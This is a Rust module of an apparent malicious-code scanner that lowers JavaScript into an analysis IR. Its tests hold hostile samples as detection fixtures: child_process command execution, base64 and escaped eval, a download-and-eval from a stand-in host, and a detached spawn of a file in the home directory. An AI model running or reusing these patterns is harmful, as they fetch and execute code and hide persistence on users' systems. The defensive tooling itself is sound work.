//! JavaScript through tree-sitter-javascript, lowered to the shared IR.
//!
//! Modules become imports (`require('x')` bound to a name, `import ... from 'x'`,
//! destructuring `const { spawn } = require('child_process')`), `new X(...)` is a call of
//! `X`, function declarations and named function values are definitions, callbacks are
//! analysed in place with their parameters bound to what the called function returns.
//! Assignments nested inside expressions (common in minified code) are hoisted into
//! statements of the enclosing scope, just before the statement that holds them.

use super::ir::{Call, DefKind, Expr, Module, Stmt};
use super::reflection;
use super::ts::{self, line, named_children, text};
use crate::archive::limits::Limits;
use tree_sitter::Node;

/// Lowers JavaScript source; `parse_error` is set when the tree has errors.
pub fn lower(source: &str, limits: &Limits) -> Module {
    ts::lower_tree(
        tree_sitter_javascript::LANGUAGE.into(),
        source,
        limits,
        |root| {
            let mut l = Lowerer {
                src: source,
                strings: Vec::new(),
                pending: Vec::new(),
                max_depth: limits.max_ast_depth,
                truncated: false,
            };
            let body = l.block(root, 0);
            (body, l.strings, l.truncated)
        },
    )
}

struct Lowerer<'s> {
    src: &'s str,
    strings: Vec<(String, u32)>,
    /// Statements hoisted out of the expression being lowered (nested assignments,
    /// named function values); emitted before the statement that holds them.
    pending: Vec<Stmt>,
    max_depth: usize,
    truncated: bool,
}

/// Node kinds whose named children are statements of the same scope.
fn is_statement_container(kind: &str) -> bool {
    matches!(
        kind,
        "program"
            | "statement_block"
            | "if_statement"
            | "else_clause"
            | "for_statement"
            | "for_in_statement"
            | "while_statement"
            | "do_statement"
            | "try_statement"
            | "catch_clause"
            | "finally_clause"
            | "switch_statement"
            | "switch_body"
            | "switch_case"
            | "switch_default"
            | "labeled_statement"
            | "throw_statement"
            | "with_statement"
            | "class_static_block"
            | "ERROR"
    )
}

fn is_function(kind: &str) -> bool {
    matches!(
        kind,
        "arrow_function" | "function_expression" | "function" | "generator_function"
    )
}

impl<'s> Lowerer<'s> {
    fn too_deep(&mut self, depth: usize) -> bool {
        if depth > self.max_depth {
            self.truncated = true;
        }
        depth > self.max_depth
    }

    fn block(&mut self, n: Node, depth: usize) -> Vec<Stmt> {
        let mut out = Vec::new();
        if n.kind() == "statement_block" || is_statement_container(n.kind()) {
            for c in named_children(n) {
                self.stmt(c, depth + 1, &mut out);
            }
        } else {
            // An arrow function's expression body is its result.
            let value = self.expr(n, depth + 1);
            self.push(
                &mut out,
                Stmt::Return {
                    value,
                    line: line(n),
                },
            );
        }
        out
    }

    /// Pushes a statement after the statements its expressions hoisted.
    fn push(&mut self, out: &mut Vec<Stmt>, s: Stmt) {
        out.append(&mut self.pending);
        out.push(s);
    }

    fn stmt(&mut self, n: Node, depth: usize, out: &mut Vec<Stmt>) {
        if self.too_deep(depth) {
            return;
        }
        let d = depth + 1;
        match n.kind() {
            "comment"
            | "hash_bang_line"
            | "empty_statement"
            | "debugger_statement"
            | "break_statement"
            | "continue_statement"
            | "statement_identifier" => {}
            "lexical_declaration" | "variable_declaration" => {
                for c in named_children(n)
                    .into_iter()
                    .filter(|c| c.kind() == "variable_declarator")
                {
                    self.declarator(c, d, out);
                }
            }
            "function_declaration" | "generator_function_declaration" => {
                let name = self.field_text(n, "name");
                let def = self.def(name, n, d);
                self.push(out, def);
            }
            "class_declaration" => {
                let class = self.class(n, d);
                self.push(out, class);
            }
            "import_statement" => self.import(n, out),
            "return_statement" => {
                let kids: Vec<Node> = named_children(n)
                    .into_iter()
                    .filter(|c| c.kind() != "comment")
                    .collect();
                let value = match kids.as_slice() {
                    [one] => self.expr(*one, d),
                    _ => Expr::Other(kids.into_iter().map(|c| self.expr(c, d)).collect()),
                };
                self.push(
                    out,
                    Stmt::Return {
                        value,
                        line: line(n),
                    },
                );
            }
            "export_statement" => {
                for c in named_children(n) {
                    if !matches!(c.kind(), "export_clause" | "string" | "comment") {
                        self.stmt(c, d, out);
                    }
                }
            }
            "expression_statement" => {
                for c in named_children(n) {
                    self.effect(c, d, out);
                }
            }
            k if is_statement_container(k) => {
                for c in named_children(n) {
                    self.stmt(c, d, out);
                }
            }
            _ => self.effect(n, d, out),
        }
    }

    /// An expression evaluated for its effect: assignments become `Assign`.
    fn effect(&mut self, n: Node, d: usize, out: &mut Vec<Stmt>) {
        let ln = line(n);
        match n.kind() {
            "sequence_expression" => {
                for c in named_children(n) {
                    self.effect(c, d, out);
                }
            }
            "assignment_expression" | "augmented_assignment_expression" => {
                let s = self.assignment(n, d);
                self.push(out, s);
            }
            "comment" => {}
            _ => match self.required_module(n) {
                // `require('./payload');` runs that file.
                Some(module) => self.push(
                    out,
                    Stmt::Import {
                        module,
                        alias: None,
                        line: ln,
                    },
                ),
                None => {
                    let value = self.expr(n, d);
                    self.push(out, Stmt::Eval { value, line: ln });
                }
            },
        }
    }

    /// `a = v`, `a += v`, and `name = function () {}` (a definition named `name`).
    fn assignment(&mut self, n: Node, d: usize) -> Stmt {
        let ln = line(n);
        let left = n.child_by_field_name("left");
        let right = n.child_by_field_name("right");
        if let (Some(l), Some(r)) = (left, right) {
            if n.kind() == "assignment_expression" && is_function(r.kind()) {
                let name = match l.kind() {
                    "member_expression" => self.field_text(l, "property"),
                    _ => text(l, self.src).to_string(),
                };
                return self.def(name, r, d);
            }
        }
        let target = left.map(|x| self.expr(x, d)).unwrap_or(Expr::Other(vec![]));
        let value = right
            .map(|x| self.expr(x, d))
            .unwrap_or(Expr::Other(vec![]));
        let op = n
            .child_by_field_name("operator")
            .map(|o| o.kind())
            .unwrap_or("=");
        let value = match (n.kind(), op) {
            ("assignment_expression", _) => value,
            (_, "+=") => Expr::Concat(vec![target.clone(), value]),
            _ => Expr::Other(vec![target.clone(), value]),
        };
        Stmt::Assign {
            targets: vec![target],
            value,
            line: ln,
        }
    }

    fn declarator(&mut self, n: Node, d: usize, out: &mut Vec<Stmt>) {
        let ln = line(n);
        let (Some(name), Some(value)) = (
            n.child_by_field_name("name"),
            n.child_by_field_name("value"),
        ) else {
            return;
        };
        let module = self.required_module(value);
        match name.kind() {
            "identifier" if is_function(value.kind()) => {
                let def = self.def(identifier(text(name, self.src)), value, d);
                self.push(out, def);
            }
            "identifier" => {
                let stmt = match module {
                    Some(module) => Stmt::Import {
                        module,
                        alias: Some(identifier(text(name, self.src))),
                        line: ln,
                    },
                    None => Stmt::Assign {
                        targets: vec![Expr::Name(identifier(text(name, self.src)))],
                        value: self.expr(value, d),
                        line: ln,
                    },
                };
                self.push(out, stmt);
            }
            "object_pattern" => {
                // `{ a, b: c } = v` binds `a = v.a; c = v.b`; `v` is bound to a temporary
                // name first so calls inside it are seen once.
                let source = match &module {
                    Some(_) => None,
                    None => {
                        let tmp = format!("{{destructured@{}:{}}}", ln, n.start_position().column);
                        let v = self.expr(value, d);
                        self.push(
                            out,
                            Stmt::Assign {
                                targets: vec![Expr::Name(tmp.clone())],
                                value: v,
                                line: ln,
                            },
                        );
                        Some(Expr::Name(tmp))
                    }
                };
                for (key, local) in self.pattern_properties(name) {
                    let stmt = match (&module, &source) {
                        (Some(m), _) => Stmt::ImportFrom {
                            module: m.clone(),
                            alias: (local != key).then(|| local.clone()),
                            name: key,
                            line: ln,
                        },
                        (None, Some(src)) => Stmt::Assign {
                            targets: vec![Expr::Name(local)],
                            value: Expr::Attr(Box::new(src.clone()), key),
                            line: ln,
                        },
                        (None, None) => continue,
                    };
                    self.push(out, stmt);
                }
            }
            _ => {
                let target = self.expr(name, d);
                let value = self.expr(value, d);
                self.push(
                    out,
                    Stmt::Assign {
                        targets: vec![target],
                        value,
                        line: ln,
                    },
                );
            }
        }
    }

    /// `(key, local name)` of each property of an object pattern.
    fn pattern_properties(&self, pattern: Node) -> Vec<(String, String)> {
        let mut props = Vec::new();
        for p in named_children(pattern) {
            match p.kind() {
                "shorthand_property_identifier_pattern" => {
                    let name = text(p, self.src).to_string();
                    props.push((name.clone(), name));
                }
                "object_assignment_pattern" => {
                    if let Some(l) = p.child_by_field_name("left") {
                        let name = text(l, self.src).to_string();
                        props.push((name.clone(), name));
                    }
                }
                "pair_pattern" => {
                    let key = p
                        .child_by_field_name("key")
                        .map(|k| unquote(text(k, self.src)))
                        .unwrap_or_default();
                    let local = match p.child_by_field_name("value") {
                        Some(v) if v.kind() == "assignment_pattern" => {
                            v.child_by_field_name("left")
                        }
                        other => other,
                    };
                    if let Some(v) = local.filter(|v| v.kind() == "identifier") {
                        props.push((key, text(v, self.src).to_string()));
                    }
                }
                _ => {}
            }
        }
        props
    }

    /// The module of `require('m')` / `await import('m')` with a literal name (`node:` dropped).
    fn required_module(&self, value: Node) -> Option<String> {
        let call = if value.kind() == "await_expression" {
            named_children(value).into_iter().next()?
        } else {
            value
        };
        if call.kind() != "call_expression" {
            return None;
        }
        let func = call.child_by_field_name("function")?;
        if !matches!(text(func, self.src), "require" | "import") {
            return None;
        }
        let args = named_children(call.child_by_field_name("arguments")?);
        match args.as_slice() {
            [s] if s.kind() == "string" => Some(module_name(&unquote(text(*s, self.src)))),
            _ => None,
        }
    }

    fn import(&mut self, n: Node, out: &mut Vec<Stmt>) {
        let ln = line(n);
        let module = n
            .child_by_field_name("source")
            .map(|s| module_name(&unquote(text(s, self.src))))
            .unwrap_or_default();
        let Some(clause) = named_children(n)
            .into_iter()
            .find(|c| c.kind() == "import_clause")
        else {
            out.push(Stmt::Import {
                module,
                alias: None,
                line: ln,
            });
            return;
        };
        for c in named_children(clause) {
            match c.kind() {
                "identifier" => out.push(Stmt::Import {
                    module: module.clone(),
                    alias: Some(text(c, self.src).to_string()),
                    line: ln,
                }),
                "namespace_import" => {
                    let alias = named_children(c)
                        .first()
                        .map(|a| text(*a, self.src).to_string());
                    out.push(Stmt::Import {
                        module: module.clone(),
                        alias,
                        line: ln,
                    });
                }
                "named_imports" => {
                    for s in named_children(c)
                        .into_iter()
                        .filter(|s| s.kind() == "import_specifier")
                    {
                        let name = self.field_text(s, "name");
                        let alias = s
                            .child_by_field_name("alias")
                            .map(|a| text(a, self.src).to_string());
                        out.push(Stmt::ImportFrom {
                            module: module.clone(),
                            name: unquote(&name),
                            alias,
                            line: ln,
                        });
                    }
                }
                _ => {}
            }
        }
    }

    /// A function definition named `name` from a function node (declaration or value).
    fn def(&mut self, name: String, f: Node, d: usize) -> Stmt {
        let body = self.function_body(f, None, None, d);
        Stmt::Def {
            name,
            kind: DefKind::Function,
            params: Vec::new(),
            bases: vec![],
            body,
            line: line(f),
        }
    }

    /// The statements of a function: parameter defaults, then the body. When the
    /// function is a callback of `callee` (called with `first` as its first argument),
    /// its parameters are bound to what `callee` returns.
    fn function_body(
        &mut self,
        f: Node,
        callee: Option<&Expr>,
        first: Option<&Expr>,
        d: usize,
    ) -> Vec<Stmt> {
        let saved = std::mem::take(&mut self.pending);
        let mut body = Vec::new();
        let params: Vec<Node> = match (
            f.child_by_field_name("parameters"),
            f.child_by_field_name("parameter"),
        ) {
            (Some(ps), _) => named_children(ps),
            (None, Some(p)) => vec![p],
            _ => vec![],
        };
        let mut names = Vec::new();
        for p in params {
            match p.kind() {
                "assignment_pattern" => {
                    if let Some(r) = p.child_by_field_name("right") {
                        let value = self.expr(r, d);
                        self.push(
                            &mut body,
                            Stmt::Eval {
                                value,
                                line: line(r),
                            },
                        );
                    }
                    names.extend(
                        p.child_by_field_name("left")
                            .filter(|l| l.kind() == "identifier"),
                    );
                }
                "identifier" => names.push(p),
                _ => {}
            }
        }
        if let Some(callee) = callee.filter(|_| !names.is_empty()) {
            let targets = names
                .iter()
                .map(|p| Expr::Name(text(*p, self.src).to_string()))
                .collect();
            body.push(Stmt::Assign {
                targets: vec![Expr::Seq(targets)],
                value: Expr::ResultOf(
                    Box::new(callee.clone()),
                    first.and_then(Expr::small_copy).map(Box::new),
                ),
                line: line(f),
            });
        }
        if let Some(b) = f.child_by_field_name("body") {
            body.extend(self.block(b, d));
        }
        self.pending = saved;
        body
    }

    fn class(&mut self, n: Node, d: usize) -> Stmt {
        let name = self.field_text(n, "name");
        let bases = named_children(n)
            .into_iter()
            .filter(|c| c.kind() == "class_heritage")
            .flat_map(named_children)
            .map(|b| self.expr(b, d))
            .collect();
        let saved = std::mem::take(&mut self.pending);
        let mut body = Vec::new();
        if let Some(b) = n.child_by_field_name("body") {
            for m in named_children(b) {
                match m.kind() {
                    "method_definition" => {
                        let name = match self.field_text(m, "name").as_str() {
                            // The IR names constructors as Python does.
                            "constructor" => "__init__".to_string(),
                            other => other.to_string(),
                        };
                        let def = self.def(name, m, d);
                        self.push(&mut body, def);
                    }
                    "field_definition" => {
                        if let Some(v) = m.child_by_field_name("value") {
                            let value = self.expr(v, d);
                            self.push(
                                &mut body,
                                Stmt::Eval {
                                    value,
                                    line: line(v),
                                },
                            );
                        }
                    }
                    _ => self.stmt(m, d, &mut body),
                }
            }
        }
        self.pending = saved;
        Stmt::Def {
            name,
            kind: DefKind::Class,
            params: Vec::new(),
            bases,
            body,
            line: line(n),
        }
    }

    fn field_text(&self, n: Node, field: &str) -> String {
        n.child_by_field_name(field)
            .map(|x| text(x, self.src).to_string())
            .unwrap_or_default()
    }

    fn field_expr(&mut self, n: Node, field: &str, d: usize) -> Expr {
        n.child_by_field_name(field)
            .map(|x| self.expr(x, d))
            .unwrap_or(Expr::Other(vec![]))
    }

    fn expr(&mut self, n: Node, depth: usize) -> Expr {
        if self.too_deep(depth) {
            return Expr::Other(vec![]);
        }
        let d = depth + 1;
        match n.kind() {
            "identifier"
            | "property_identifier"
            | "shorthand_property_identifier"
            | "private_property_identifier" => Expr::Name(identifier(text(n, self.src))),
            "this" | "super" => Expr::Name(n.kind().to_string()),
            "number" => number(text(n, self.src))
                .map(Expr::Int)
                .unwrap_or(Expr::Other(vec![])),
            "true" => Expr::Int(1),
            "false" => Expr::Int(0),
            "string" => self.string(n),
            "template_string" => self.template(n, d),
            "member_expression" => Expr::Attr(
                Box::new(self.field_expr(n, "object", d)),
                identifier(&self.field_text(n, "property")),
            ),
            "subscript_expression" => Expr::Index(
                Box::new(self.field_expr(n, "object", d)),
                Box::new(self.field_expr(n, "index", d)),
            ),
            "call_expression" | "new_expression" => self.call(n, d),
            "binary_expression" => self.binary(n, d),
            "parenthesized_expression"
            | "await_expression"
            | "spread_element"
            | "yield_expression" => {
                let kids = named_children(n);
                match kids.as_slice() {
                    [one] => self.expr(*one, d),
                    _ => Expr::Other(kids.into_iter().map(|c| self.expr(c, d)).collect()),
                }
            }
            "sequence_expression" => {
                // `(0, eval)(x)`: the value is the last operand; the others run for effect.
                let kids = named_children(n);
                let (last, rest) = match kids.split_last() {
                    Some(p) => p,
                    None => return Expr::Other(vec![]),
                };
                for c in rest {
                    let value = self.expr(*c, d);
                    self.pending.push(Stmt::Eval {
                        value,
                        line: line(*c),
                    });
                }
                self.expr(*last, d)
            }
            "assignment_expression" | "augmented_assignment_expression" => {
                let s = self.assignment(n, d);
                let target = match &s {
                    Stmt::Assign { targets, .. } => targets.first().cloned(),
                    Stmt::Def { name, .. } => Some(Expr::Name(name.clone())),
                    _ => None,
                };
                self.pending.push(s);
                target.unwrap_or(Expr::Other(vec![]))
            }
            "array" => Expr::Seq(
                named_children(n)
                    .into_iter()
                    .filter(|c| c.kind() != "comment")
                    .map(|c| self.expr(c, d))
                    .collect(),
            ),
            "object" => self.object(n, d),
            k if is_function(k) => Expr::Lambda(self.function_body(n, None, None, d)),
            "class" => {
                let class = self.class(n, d);
                Expr::Lambda(vec![class])
            }
            "regex" | "comment" | "null" | "undefined" => Expr::Other(vec![]),
            _ => Expr::Other(
                named_children(n)
                    .into_iter()
                    .map(|c| self.expr(c, d))
                    .collect(),
            ),
        }
    }

    /// A call or `new`: `import(x)` is `require(x)`, an object literal as last data
    /// argument gives keyword arguments (`spawn(c, a, { detached: true })`).
    fn call(&mut self, n: Node, d: usize) -> Expr {
        if let Some(selected) = self.selected_member(n, d) {
            return selected;
        }
        let func_node = n.child_by_field_name(if n.kind() == "new_expression" {
            "constructor"
        } else {
            "function"
        });
        let func = match func_node {
            Some(f) if f.kind() == "import" => Expr::Name("require".into()),
            Some(f) => self.expr(f, d),
            None => Expr::Other(vec![]),
        };
        let arg_nodes: Vec<Node> = match n.child_by_field_name("arguments") {
            Some(a) if a.kind() == "template_string" => vec![a],
            Some(a) => named_children(a)
                .into_iter()
                .filter(|c| c.kind() != "comment")
                .collect(),
            None => vec![],
        };
        let options = arg_nodes
            .iter()
            .rposition(|a| !is_function(a.kind()))
            .filter(|&i| is_plain_object(arg_nodes[i]));
        let mut args = Vec::new();
        let mut kwargs = Vec::new();
        for (i, a) in arg_nodes.iter().enumerate() {
            if Some(i) == options {
                for p in named_children(*a) {
                    let (key, value) = self.property(p, d);
                    kwargs.push((key, value));
                }
            } else if is_function(a.kind()) {
                let first = args.first().filter(|_| i > 0);
                let body = self.function_body(*a, Some(&func), first, d);
                args.push(Expr::Lambda(body));
            } else {
                args.push(self.expr(*a, d));
            }
        }
        Expr::Call(Box::new(reflection::js_call(Call {
            func,
            args,
            kwargs,
            line: line(n),
            reflective: false,
        })))
    }

    /// A key picked from an object's own keys by comparing each with a literal:
    /// `Object.keys(o).find(k => k === 'spawn')` is the name `spawn`, and
    /// `Object.entries(o).find(([k]) => k === 'spawn')` the pair `['spawn', o.spawn]`
    /// (`filter` gives a list of them). The name is a hidden one (`Decoded`): honest code
    /// writes `o.spawn`.
    fn selected_member(&mut self, n: Node, d: usize) -> Option<Expr> {
        let func = n.child_by_field_name("function")?;
        if func.kind() != "member_expression" {
            return None;
        }
        let method = self.field_text(func, "property");
        let listing = func.child_by_field_name("object")?;
        if listing.kind() != "call_expression" || !matches!(method.as_str(), "find" | "filter") {
            return None;
        }
        let lister = text(listing.child_by_field_name("function")?, self.src);
        let entries = match lister {
            "Object.entries" => true,
            "Object.keys" | "Object.getOwnPropertyNames" | "Reflect.ownKeys" => false,
            _ => return None,
        };
        let [object] = named_children(listing.child_by_field_name("arguments")?)[..] else {
            return None;
        };
        let [predicate] = named_children(n.child_by_field_name("arguments")?)[..] else {
            return None;
        };
        let key = Expr::Decoded(Box::new(Expr::Str(self.compared_key(predicate)?)));
        let object = self.expr(object, d);
        let found = if entries {
            Expr::Seq(vec![
                key.clone(),
                Expr::Index(Box::new(object), Box::new(key)),
            ])
        } else {
            key
        };
        Some(if method == "filter" {
            Expr::Seq(vec![found])
        } else {
            found
        })
    }

    /// The literal an arrow predicate compares its (first) parameter with:
    /// `k => k === 'x'`, `([k, v]) => k == "x"`.
    fn compared_key(&self, predicate: Node) -> Option<String> {
        if predicate.kind() != "arrow_function" {
            return None;
        }
        let param = match predicate.child_by_field_name("parameter") {
            Some(p) => p,
            None => {
                let first =
                    *named_children(predicate.child_by_field_name("parameters")?).first()?;
                match first.kind() {
                    "array_pattern" => *named_children(first).first()?,
                    _ => first,
                }
            }
        };
        if param.kind() != "identifier" {
            return None;
        }
        let body = predicate.child_by_field_name("body")?;
        if body.kind() != "binary_expression" || !matches!(ts::operator(body), "===" | "==") {
            return None;
        }
        let (l, r) = (
            body.child_by_field_name("left")?,
            body.child_by_field_name("right")?,
        );
        let name = text(param, self.src);
        let literal = match (text(l, self.src) == name, text(r, self.src) == name) {
            (true, false) => r,
            (false, true) => l,
            _ => return None,
        };
        (literal.kind() == "string").then(|| unquote(text(literal, self.src)))
    }

    fn object(&mut self, n: Node, d: usize) -> Expr {
        let mut pairs = Vec::new();
        for p in named_children(n) {
            match p.kind() {
                "pair"
                    if p.child_by_field_name("key")
                        .is_some_and(|k| k.kind() == "computed_property_name") =>
                {
                    let key = p
                        .child_by_field_name("key")
                        .and_then(|k| named_children(k).first().copied());
                    let key = key.map(|k| self.expr(k, d)).unwrap_or(Expr::Other(vec![]));
                    pairs.push((key, self.field_expr(p, "value", d)));
                }
                "pair" | "shorthand_property_identifier" | "method_definition" => {
                    let (key, value) = self.property(p, d);
                    pairs.push((Expr::Str(key), value));
                }
                "comment" => {}
                _ => pairs.push((Expr::Other(vec![]), self.expr(p, d))),
            }
        }
        Expr::Dict(pairs)
    }

    /// One plain property of an object literal: its key and value. A function value is
    /// a definition named by its key (`{ run() {...} }` defines `run`).
    fn property(&mut self, p: Node, d: usize) -> (String, Expr) {
        match p.kind() {
            "shorthand_property_identifier" => {
                let name = text(p, self.src).to_string();
                (name.clone(), Expr::Name(name))
            }
            "method_definition" => {
                let name = self.field_text(p, "name");
                let def = self.def(name.clone(), p, d);
                self.pending.push(def);
                (name.clone(), Expr::Name(name))
            }
            _ => {
                let key = p
                    .child_by_field_name("key")
                    .map(|k| unquote(text(k, self.src)))
                    .unwrap_or_default();
                match p.child_by_field_name("value") {
                    Some(v) if is_function(v.kind()) => {
                        let def = self.def(key.clone(), v, d);
                        self.pending.push(def);
                        (key.clone(), Expr::Name(key))
                    }
                    Some(v) => (key, self.expr(v, d)),
                    None => (key, Expr::Other(vec![])),
                }
            }
        }
    }

    /// Binary operators; `+` chains are walked along their left spine iteratively.
    fn binary(&mut self, n: Node, d: usize) -> Expr {
        if ts::operator(n) != "+" {
            let l = self.field_expr(n, "left", d);
            let r = self.field_expr(n, "right", d);
            return Expr::Other(vec![l, r]);
        }
        Expr::Concat(
            ts::plus_operands(n, "binary_expression")
                .into_iter()
                .map(|x| self.expr(x, d))
                .collect(),
        )
    }

    fn string(&mut self, n: Node) -> Expr {
        let raw = text(n, self.src);
        let inner = raw.get(1..raw.len().saturating_sub(1)).unwrap_or("");
        let value = ts::unescape(inner);
        self.strings.push((value.clone(), line(n)));
        if ts::hides_text(inner) {
            Expr::Decoded(Box::new(Expr::Str(value)))
        } else {
            Expr::Str(value)
        }
    }

    fn template(&mut self, n: Node, d: usize) -> Expr {
        let mut parts = Vec::new();
        let mut literal = String::new();
        for c in named_children(n) {
            match c.kind() {
                "string_fragment" => literal.push_str(text(c, self.src)),
                "escape_sequence" => literal.push_str(&ts::unescape(text(c, self.src))),
                "template_substitution" => {
                    if !literal.is_empty() {
                        parts.push(Expr::Str(std::mem::take(&mut literal)));
                    }
                    let inner = named_children(c);
                    parts.push(match inner.as_slice() {
                        [one] => self.expr(*one, d),
                        _ => Expr::Other(inner.into_iter().map(|x| self.expr(x, d)).collect()),
                    });
                }
                _ => {}
            }
        }
        if parts.is_empty() {
            self.strings.push((literal.clone(), line(n)));
            let s = Expr::Str(literal);
            return if ts::hides_text(text(n, self.src)) {
                Expr::Decoded(Box::new(s))
            } else {
                s
            };
        }
        if !literal.is_empty() {
            parts.push(Expr::Str(literal));
        }
        Expr::Template(parts)
    }
}

/// An object literal with only plain keys: usable as keyword arguments.
fn is_plain_object(n: Node) -> bool {
    n.kind() == "object"
        && named_children(n).iter().all(|p| match p.kind() {
            "pair" => p
                .child_by_field_name("key")
                .is_some_and(|k| k.kind() != "computed_property_name"),
            "shorthand_property_identifier" | "method_definition" | "comment" => true,
            _ => false,
        })
}

/// A quoted key or module name without its quotes and escapes.
fn unquote(s: &str) -> String {
    let q = s.starts_with(['"', '\'', '`']) && s.len() >= 2;
    if q {
        ts::unescape(&s[1..s.len() - 1])
    } else {
        s.to_string()
    }
}

/// An identifier's name: JavaScript lets names be spelled in escapes (`\u0065val` is `eval`).
fn identifier(raw: &str) -> String {
    if raw.contains('\\') {
        ts::unescape(raw)
    } else {
        raw.to_string()
    }
}

fn module_name(m: &str) -> String {
    m.strip_prefix("node:").unwrap_or(m).to_string()
}

/// A JavaScript integer literal (decimal, hex, octal, binary; `_` separators).
fn number(t: &str) -> Option<i64> {
    let t = t.replace('_', "");
    let lower = t.to_ascii_lowercase();
    for (prefix, radix) in [("0x", 16), ("0o", 8), ("0b", 2)] {
        if let Some(digits) = lower.strip_prefix(prefix) {
            return i64::from_str_radix(digits, radix).ok();
        }
    }
    t.parse().ok()
}

#[cfg(test)]
mod tests {
    use crate::archive::limits::Limits;
    use crate::lang::{analyse, Lang};

    fn callees(src: &str) -> Vec<String> {
        analyse(Lang::JavaScript, src, &Limits::default())
            .calls
            .into_iter()
            .map(|c| c.callee)
            .collect()
    }

    #[test]
    fn every_way_of_reaching_child_process() {
        for src in [
            "require('child_process').exec('id')",
            "const { spawn } = require('child_process'); spawn('id')",
            "const { exec: run } = require('child_process'); run('id')",
            "const cp = require('child_process'); cp.exec('id')",
            "import cp from 'child_process'; cp.exec('id')",
            "import { exec } from 'node:child_process'; exec('id')",
            "import * as cp from 'child_process'; cp['exec']('id')",
            "const r = require; r('child_process').exec('id')",
            "process.mainModule.require('child_process').exec('id')",
            "global['req'+'uire']('child_process').exec('id')",
            "var a, cp; cp = require('child_process'), cp.exec('id')",
            "(async () => { const cp = await import('child_process'); cp.exec('id') })()",
        ] {
            let calls = callees(src);
            assert!(
                calls
                    .iter()
                    .any(|c| c == "child_process.exec" || c == "child_process.spawn"),
                "{src}: {calls:?}"
            );
            assert!(calls.iter().any(|c| c == "sh.id"), "{src}: {calls:?}");
        }
    }

    #[test]
    fn decoded_and_downloaded_labels() {
        use crate::lang::facts::Labels;
        let facts = analyse(
            Lang::JavaScript,
            "eval(Buffer.from('aWQ=', 'base64').toString());\n\
             const https = require('https');\n\
             https.get('https://x.invalid/p', res => { let b = ''; res.on('data', d => b += d); res.on('end', () => eval(b)); });\n\
             eval('\\x72\\x65\\x71\\x75\\x69\\x72\\x65');\n\
             new Function(String.fromCharCode(105, 100))();",
            &Limits::default(),
        );
        // `new Function(code)()` is two calls: building the function and calling it.
        let evals: Vec<_> = facts
            .calls
            .iter()
            .filter(|c| (c.callee == "eval" || c.callee == "Function") && !c.args.is_empty())
            .collect();
        assert_eq!(evals.len(), 4);
        assert!(evals[0].arg_labels().has(Labels::DECODED));
        assert!(
            evals[1].arg_labels().has(Labels::DOWNLOADED),
            "{:?}",
            evals[1]
        );
        assert!(evals[2].arg_labels().has(Labels::DECODED));
        assert!(evals[3].arg_labels().has(Labels::DECODED));
        assert_eq!(evals[3].args[0].text.as_deref(), Some("id"));
    }

    #[test]
    fn options_object_and_home_paths() {
        let facts = analyse(
            Lang::JavaScript,
            "const os = require('os'), path = require('path'), fs = require('fs');\n\
             const p = path.join(os.homedir(), '.x');\n\
             fs.writeFileSync(p, 'a');\n\
             require('child_process').spawn(p, [], { detached: true, stdio: 'ignore' }).unref();",
            &Limits::default(),
        );
        let write = facts
            .calls
            .iter()
            .find(|c| c.callee == "fs.writeFileSync")
            .unwrap();
        assert_eq!(write.write_target(), Some("~/.x"));
        let spawn = facts
            .calls
            .iter()
            .find(|c| c.callee == "child_process.spawn")
            .unwrap();
        assert_eq!(
            spawn.kwarg("detached").and_then(|v| v.text.as_deref()),
            Some("1")
        );
    }
}
